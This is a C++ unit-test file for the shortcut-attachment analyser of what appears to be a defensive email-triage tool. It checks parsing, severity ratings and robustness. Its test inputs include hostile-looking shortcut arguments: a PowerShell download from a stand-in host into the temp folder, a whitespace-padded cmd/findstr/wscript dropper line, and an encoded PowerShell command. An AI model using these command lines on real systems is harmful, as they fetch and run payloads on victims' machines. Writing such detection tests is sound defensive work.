#include <gtest/gtest.h>

#include <algorithm>
#include <filesystem>
#include <fstream>
#include <nlohmann/json.hpp>
#include <sstream>

#include "core/text.hpp"
#include "dropper/dropper.hpp"
#include "lnk_builder.hpp"
#include "read_file.hpp"

namespace emotriage::dropper {
namespace {

using test::read_file;

using test::build_lnk;
using test::LnkSpec;

std::string property(const core::Attachment& node, std::string_view key) {
  for (const auto& [name, value] : node.properties) {
    if (name == key) return value;
  }
  return {};
}

const core::Finding* find(const std::vector<core::Finding>& findings, std::string_view id) {
  for (const core::Finding& finding : findings) {
    if (finding.id == id) return &finding;
  }
  return nullptr;
}

struct Analysis {
  core::Attachment node;
  std::vector<core::Finding> findings;
};

Analysis analyze(std::string_view bytes) {
  Analysis result;
  result.node.part = "2";
  result.node.path = "invoice.lnk";
  analyze_lnk(bytes, result.node, result.findings, core::Limits{});
  return result;
}

TEST(Lnk, UnicodeArgumentsWithPowerShellAreHigh) {
  LnkSpec spec;
  spec.local_base_path = "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe";
  spec.arguments = "-NoProfile -Command iwr https://dl.example.com/a.zip -OutFile $env:TEMP\\a.zip";
  spec.working_dir = "C:\\Windows\\System32";
  spec.icon_location = "%SystemRoot%\\System32\\shell32.dll";
  Analysis result = analyze(build_lnk(spec));

  EXPECT_EQ(property(result.node, "lnk.target"), *spec.local_base_path);
  EXPECT_EQ(property(result.node, "lnk.arguments"), *spec.arguments);
  EXPECT_EQ(property(result.node, "lnk.working-dir"), "C:\\Windows\\System32");
  EXPECT_EQ(property(result.node, "lnk.icon"), "%SystemRoot%\\System32\\shell32.dll");
  EXPECT_EQ(property(result.node, "lnk.target-size"), "4096");
  ASSERT_EQ(result.node.urls, std::vector<std::string>{"https://dl.example.com/a.zip"});
  EXPECT_NE(std::ranges::find(result.node.keywords, "powershell"), result.node.keywords.end());
  const core::Finding* lnk = find(result.findings, "attachment.lnk");
  ASSERT_NE(lnk, nullptr);
  EXPECT_EQ(lnk->severity, core::Severity::high);
  EXPECT_EQ(lnk->part, "2");
  EXPECT_NE(lnk->message_en.find("powershell"), std::string::npos);
  EXPECT_NE(lnk->message_ja.find("ショートカット"), std::string::npos);
  EXPECT_EQ(find(result.findings, "parse.malformed"), nullptr);
}

TEST(Lnk, PlainShortcutWithoutArgumentsIsMedium) {
  LnkSpec spec;
  spec.local_base_path = "C:\\Program Files\\Viewer\\viewer.exe";
  spec.name = "Viewer";
  Analysis result = analyze(build_lnk(spec));
  const core::Finding* lnk = find(result.findings, "attachment.lnk");
  ASSERT_NE(lnk, nullptr);
  EXPECT_EQ(lnk->severity, core::Severity::medium);
  EXPECT_EQ(property(result.node, "lnk.name"), "Viewer");
  EXPECT_TRUE(result.node.keywords.empty());
}

TEST(Lnk, PaddedCmdWithZeroTargetSizeFromIdList) {
  LnkSpec spec;
  spec.target_size = 0;
  spec.idlist = {"C:\\", "Windows", "System32", "cmd.exe"};
  std::string padding(300, ' ');
  padding += std::string(40, '\n');
  spec.arguments =
      padding + "/c findstr /b \"x\" invoice.lnk > %TEMP%\\a.vbs & wscript %TEMP%\\a.vbs";
  Analysis result = analyze(build_lnk(spec));

  auto info = parse_lnk(build_lnk(spec));
  ASSERT_TRUE(info);
  EXPECT_EQ(info->idlist_path, "C:\\Windows\\System32\\cmd.exe");
  EXPECT_EQ(info->target, "C:\\Windows\\System32\\cmd.exe");
  EXPECT_EQ(info->arguments, *spec.arguments);

  const core::Finding* lnk = find(result.findings, "attachment.lnk");
  ASSERT_NE(lnk, nullptr);
  EXPECT_EQ(lnk->severity, core::Severity::high);
  EXPECT_NE(lnk->message_en.find("cmd /c"), std::string::npos);
  EXPECT_NE(lnk->message_en.find("findstr"), std::string::npos);
  EXPECT_NE(lnk->message_en.find("run of 340 blanks"), std::string::npos);
  EXPECT_NE(lnk->message_en.find("target size is 0"), std::string::npos);
  EXPECT_NE(lnk->message_en.find("characters long"), std::string::npos);
  // The report shows the padded arguments on one line.
  EXPECT_EQ(property(result.node, "lnk.arguments").find('\n'), std::string::npos);
}

TEST(Lnk, ShortPaddingAloneIsNotHigh) {
  LnkSpec spec;
  spec.local_base_path = "C:\\Tools\\tool.exe";
  spec.arguments = "--input   a.txt";
  Analysis result = analyze(build_lnk(spec));
  EXPECT_EQ(find(result.findings, "attachment.lnk")->severity, core::Severity::medium);
}

TEST(Lnk, Cp932AnsiStringsAreDecoded) {
  LnkSpec spec;
  spec.unicode = false;
  // 請求書 / C:\ユーザー\資料 / /p 見積.pdf in CP932.
  spec.name = "\x90\xBF\x8B\x81\x8F\x91";
  spec.working_dir = "C:\\\x83\x86\x81\x5B\x83\x55\x81\x5B\\\x8E\x91\x97\xBF";
  spec.arguments = "/p \x8C\xA9\x90\xCF.pdf";
  spec.local_base_path = "C:\\\x8E\x91\x97\xBF\\viewer.exe";
  auto info = parse_lnk(build_lnk(spec));
  ASSERT_TRUE(info);
  EXPECT_EQ(info->name, "請求書");
  EXPECT_EQ(info->working_dir, "C:\\ユーザー\\資料");
  EXPECT_EQ(info->arguments, "/p 見積.pdf");
  EXPECT_EQ(info->target, "C:\\資料\\viewer.exe");
}

TEST(Lnk, ExtraDataBlocks) {
  LnkSpec spec;
  spec.environment_target = "%windir%\\system32\\cmd.exe";
  spec.machine_id = "desktop-a1b2c3";
  spec.arguments = "/c echo";
  Analysis result = analyze(build_lnk(spec));
  EXPECT_EQ(property(result.node, "lnk.target"), "%windir%\\system32\\cmd.exe");
  EXPECT_EQ(property(result.node, "lnk.machine-id"), "desktop-a1b2c3");
  EXPECT_EQ(find(result.findings, "attachment.lnk")->severity, core::Severity::high);
}

TEST(Lnk, NotAShortcut) {
  Analysis result = analyze("MZ this is not a shortcut at all, but long enough to be read.......");
  EXPECT_EQ(find(result.findings, "attachment.lnk"), nullptr);
  ASSERT_NE(find(result.findings, "parse.malformed"), nullptr);
  EXPECT_FALSE(parse_lnk(""));
}

TEST(Lnk, CutStringDataIsMalformedAndTruncated) {
  LnkSpec spec;
  spec.local_base_path = "C:\\a.exe";
  spec.arguments = "/c powershell -enc AAAA";
  std::string bytes = build_lnk(spec);
  bytes.resize(bytes.size() - 12);  // into the arguments
  Analysis result = analyze(bytes);
  ASSERT_NE(find(result.findings, "parse.malformed"), nullptr);
  EXPECT_TRUE(result.node.truncated);
  EXPECT_EQ(property(result.node, "lnk.target"), "C:\\a.exe");
}

TEST(Lnk, EveryPrefixAndCorruptionIsSafe) {
  LnkSpec spec;
  spec.idlist = {"C:\\", "Users", "a.exe"};
  spec.local_base_path = "C:\\Users\\a.exe";
  spec.arguments = "x";
  spec.environment_target = "%TEMP%\\a.exe";
  spec.machine_id = "pc";
  std::string bytes = build_lnk(spec);
  for (std::size_t size = 0; size <= bytes.size(); ++size) analyze(bytes.substr(0, size));
  for (std::size_t i = 76; i < bytes.size(); ++i) {
    std::string corrupt = bytes;
    corrupt[i] = '\xFF';
    Analysis result = analyze(corrupt);
    for (const core::Finding& finding : result.findings) {
      EXPECT_TRUE(core::is_valid_utf8(finding.message_en));
      EXPECT_TRUE(core::is_valid_utf8(finding.evidence));
    }
  }
}

// LnkParse3's expected parses of its own samples are an independent reading of the same files.
TEST(Lnk, AgreesWithLnkParse3OnRealShortcuts) {
  std::filesystem::path dir = std::filesystem::path(EMOTRIAGE_CORPUS_DIR) / "lnkparse3";
  if (!std::filesystem::exists(dir)) GTEST_SKIP() << "corpus not present";
  std::size_t compared = 0;
  for (const auto& entry : std::filesystem::directory_iterator(dir / "samples")) {
    SCOPED_TRACE(entry.path().filename().string());
    auto expected = nlohmann::json::parse(
        read_file(dir / "expected" / (entry.path().stem().string() + ".json")));
    auto info = parse_lnk(read_file(entry.path()));
    ASSERT_TRUE(info);
    const auto& data = expected["data"];
    auto check = [&](const char* key, const std::string& actual) {
      EXPECT_EQ(actual, data.value(key, std::string{})) << key;
    };
    check("description", info->name);
    check("relative_path", info->relative_path);
    check("working_directory", info->working_dir);
    check("command_line_arguments", info->arguments);
    check("icon_location", info->icon_location);
    EXPECT_EQ(info->target_file_size, expected["header"]["file_size"].get<std::uint32_t>());
    if (expected.contains("link_info") && expected["link_info"].contains("local_base_path")) {
      std::string base = expected["link_info"]["local_base_path"];
      // LnkParse3 decodes ANSI as cp1252; compare where that cannot differ.
      if (core::is_ascii(base)) {
        EXPECT_TRUE(info->local_base_path.starts_with(base)) << base;
      }
    }
    if (expected["extra"].contains("DISTRIBUTED_LINK_TRACKER_BLOCK")) {
      EXPECT_EQ(info->machine_id,
                expected["extra"]["DISTRIBUTED_LINK_TRACKER_BLOCK"]["machine_identifier"]
                    .get<std::string>());
    }
    // extra_data.lnk ends in a block header claiming 16 bytes where 4 remain (LnkParse3 keeps
    // them as "extra data"); every other sample is well formed.
    if (entry.path().filename() == "extra_data.lnk") {
      EXPECT_EQ(info->problems,
                std::vector<std::string>{"extra data block past the end of the file"});
    } else {
      EXPECT_TRUE(info->problems.empty()) << info->problems.front();
    }
    ++compared;
  }
  EXPECT_EQ(compared, 25u);
}

TEST(Lnk, RealSamplesGiveSpecificFacts) {
  std::filesystem::path dir = std::filesystem::path(EMOTRIAGE_CORPUS_DIR) / "lnkparse3/samples";
  if (!std::filesystem::exists(dir)) GTEST_SKIP() << "corpus not present";
  auto example = parse_lnk(read_file(dir / "microsoft_example.lnk"));
  ASSERT_TRUE(example);
  EXPECT_EQ(example->target, "C:\\test\\a.txt");
  EXPECT_EQ(example->idlist_path, "C:\\test\\a.txt");
  EXPECT_EQ(example->machine_id, "chris-xps");

  Analysis browser = analyze(read_file(dir / "sample14.lnk"));
  EXPECT_EQ(property(browser.node, "lnk.target"), "C:\\AnonymusBrowser-v2.0\\AnonymusBrowser.exe");
  EXPECT_EQ(property(browser.node, "lnk.arguments"),
            "no_ipcheck no_resize username=05551112233 password=123456");
  EXPECT_EQ(find(browser.findings, "attachment.lnk")->severity, core::Severity::medium);

  auto darwin = parse_lnk(read_file(dir / "darwin_block.lnk"));
  ASSERT_TRUE(darwin);
  EXPECT_EQ(darwin->darwin_id, ",s?WosbRz8?b5SjnTa~J<");
  EXPECT_EQ(darwin->icon_environment,
            "%SystemRoot%\\Installer\\{DB8757A3-1B62-4136-8D95-D2CB9F00E36C}\\test_icon.ico");
}

}  // namespace
}  // namespace emotriage::dropper
